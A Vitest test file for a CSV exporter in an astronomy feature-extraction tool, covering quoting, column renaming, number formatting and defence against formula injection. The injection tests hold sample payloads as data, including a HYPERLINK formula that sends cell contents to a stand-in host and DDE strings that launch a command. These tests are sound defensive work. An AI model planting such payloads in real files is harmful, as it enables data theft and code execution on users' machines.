import Papa from 'papaparse';
import { describe, it, expect } from 'vitest';
import { buildResultsCsv, formatCell, neutralizeFormula, type ResultRow } from '../../src/lib/export/csv.ts';
import { mulberry32 } from '../helpers/random.ts';

const parse = (csv: string) => Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n', skipEmptyLines: false });

describe('buildResultsCsv', () => {
  it('writes input columns, then status and error, then features, one row per input row in order', () => {
    const rows: ResultRow[] = [
      { values: ['TIC 25155310', 'KP'], status: 'ok', features: { bls_period: 3.2887898, bls_depth: 7006 } },
      { values: ['KIC 11442793', 'CONFIRMED'], status: 'failed', error: 'no-light-curve: MAST has no light curve for KIC 11442793' },
      { values: ['EPIC 211495446', ''], status: 'pending' },
    ];
    const csv = buildResultsCsv(['target', 'label'], ['bls_period', 'bls_depth'], rows);
    expect(csv).toBe(
      'target,label,status,error,bls_period,bls_depth\n' +
        'TIC 25155310,KP,ok,,3.2887898,7006\n' +
        'KIC 11442793,CONFIRMED,failed,no-light-curve: MAST has no light curve for KIC 11442793,,\n' +
        'EPIC 211495446,,pending,,,\n',
    );
  });

  it('quotes values holding commas, quotes or line breaks (RFC 4180) and leaves others bare', () => {
    const rows: ResultRow[] = [
      { values: ['Kepler-90 h, the outermost', 'variable, "LS peak" at 3.32 d', 'WASP-126 b:\ntwo releases'], status: 'failed', error: 'fits-invalid: bad "NAXIS2", expected 100' },
    ];
    const csv = buildResultsCsv(['a', 'b', 'c'], [], rows);
    expect(csv).toBe(
      'a,b,c,status,error\n' +
        '"Kepler-90 h, the outermost","variable, ""LS peak"" at 3.32 d","WASP-126 b:\ntwo releases",failed,"fits-invalid: bad ""NAXIS2"", expected 100"\n',
    );
    expect(csv).not.toContain('\r');
  });

  it('renames input columns that collide with output columns to input_<name>', () => {
    const csv = buildResultsCsv(
      ['target', 'status', 'error', 'bls_period'],
      ['bls_period'],
      [{ values: ['TIC 25155310', 'queued', 'none', '3.29'], status: 'ok', features: { bls_period: 3.2887898 } }],
    );
    const [header, row] = parse(csv).data;
    expect(header).toEqual(['target', 'input_status', 'input_error', 'input_bls_period', 'status', 'error', 'bls_period']);
    expect(row).toEqual(['TIC 25155310', 'queued', 'none', '3.29', 'ok', '', '3.2887898']);
  });

  it('never writes two header cells with the same name when a renamed column already exists', () => {
    const csv = buildResultsCsv(['status', 'input_status'], [], [{ values: ['a', 'b'], status: 'ok' }]);
    expect(parse(csv).data[0]).toEqual(['input_input_status', 'input_status', 'status', 'error']);
  });

  it('writes empty cells for undefined and NaN, never a placeholder', () => {
    const csv = buildResultsCsv(['target'], ['bls_period', 'bls_snr', 'segments', 'n_files'], [
      { values: ['TIC 25155310'], status: 'ok', features: { bls_period: undefined, bls_snr: NaN, segments: '' } },
    ]);
    // target, status, error (empty), then four empty feature cells
    expect(csv.split('\n')[1]).toBe('TIC 25155310,ok,,,,,');
  });

  it('pads a short input row with empty cells and drops the extra values of a long one', () => {
    const csv = buildResultsCsv(['target', 'period'], [], [
      { values: ['TIC 25155310'], status: 'failed', error: 'invalid-sample-row: expected 2 fields (one per header column) but found 1' },
      { values: ['TIC 55652896', '34.5059318', 'extra'], status: 'failed', error: 'invalid-sample-row: expected 2 fields (one per header column) but found 3' },
    ]);
    const data = parse(csv).data;
    expect(data[1].slice(0, 3)).toEqual(['TIC 25155310', '', 'failed']);
    expect(data[2].slice(0, 3)).toEqual(['TIC 55652896', '34.5059318', 'failed']);
    expect(data[2]).toHaveLength(4);
  });

  it('round-trips values and doubles exactly through papaparse', () => {
    const rand = mulberry32(20251004);
    const features = ['x', 'y'];
    const rows: ResultRow[] = [];
    const expected: number[][] = [];
    for (let i = 0; i < 500; i++) {
      // Spread over many magnitudes, both signs, so exponents and long mantissas are exercised.
      const x = (rand() - 0.5) * 10 ** Math.floor(rand() * 40 - 20);
      const y = 2454833 + rand() * 10000;
      rows.push({ values: [`TIC ${i + 1}`, i % 7 === 0 ? 'a "quoted", value\nwith a break' : ` ${i} `], status: 'ok', features: { x, y } });
      expected.push([x, y]);
    }
    const data = parse(buildResultsCsv(['target', 'note'], features, rows)).data;
    expect(data).toHaveLength(rows.length + 2); // header, rows, and the empty string after the final \n
    expect(data[rows.length + 1]).toEqual(['']);
    rows.forEach((row, i) => {
      const cells = data[i + 1];
      expect(cells.slice(0, 2)).toEqual(row.values);
      expect(Number(cells[4])).toBe(expected[i][0]);
      expect(Number(cells[5])).toBe(expected[i][1]);
    });
  });
});

describe('formatCell', () => {
  it.each([
    [0.1 + 0.2, '0.30000000000000004'],
    [1e-7, '1e-7'],
    [2458327.519958, '2458327.519958'],
    [-0, '-0'],
    [0, '0'],
    [9007199254740993, '9007199254740992'],
    [Infinity, 'Infinity'],
    [NaN, ''],
    [undefined, ''],
    ['SPOC', 'SPOC'],
  ])('%s → %j', (value, text) => {
    expect(formatCell(value)).toBe(text);
  });
});

describe('formula injection: text cells a spreadsheet would run get a leading quote', () => {
  const CORPUS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|'/c calc'!A0",
    '@SUM(1+1)',
    '-2+3',
    '=1+1',
    "-cmd|'/c calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '@',
    '=',
    '-',
    '+',
    '- a note that starts with a dash',
  ];
  const NUMBERS = ['-0.0012', '+3', '-inf', '-Infinity', '+NaN', '-1e-5', '-.5', '+2458327.519958', '-3;4.5;-6e2', '3', '0.1'];
  const HARMLESS = ['TIC 25155310', 'CONFIRMED', ' =not at the start', 'a=b', 'x-1', ''];

  it.each(CORPUS)('neutralizes %j', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each([...NUMBERS, ...HARMLESS])('leaves %j as it is', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });

  it('covers input values, input column names, target names, error messages and text features; numbers stay numbers', () => {
    const rows: ResultRow[] = CORPUS.map((text, i) => ({
      values: [text, `${-(i + 1) / 1000}`, '-inf'],
      status: 'failed',
      error: text,
      features: { bls_period: -0.0012, bls_depth: -Infinity, tls_transit_times: text, tls_snr_per_transit: '-1.5;2' },
    }));
    const csv = buildResultsCsv(['=target', 'period', '@note'], ['bls_period', 'bls_depth', 'tls_transit_times', 'tls_snr_per_transit'], rows);
    const [header, ...data] = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n', skipEmptyLines: true }).data;
    expect(header).toEqual(["'=target", 'period', "'@note", 'status', 'error', 'bls_period', 'bls_depth', 'tls_transit_times', 'tls_snr_per_transit']);
    data.forEach((cells, i) => {
      const text = CORPUS[i];
      expect(cells).toEqual([`'${text}`, `${-(i + 1) / 1000}`, '-inf', 'failed', `'${text}`, '-0.0012', '-Infinity', `'${text}`, '-1.5;2']);
    });
    // No cell of the file, read back, starts a formula unless it is a number.
    for (const cell of data.flat()) {
      if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?(?:[\d.]+(?:e[+-]?\d+)?|inf|infinity)(?:;[+-]?[\d.]+)*$/i);
    }
  });
});
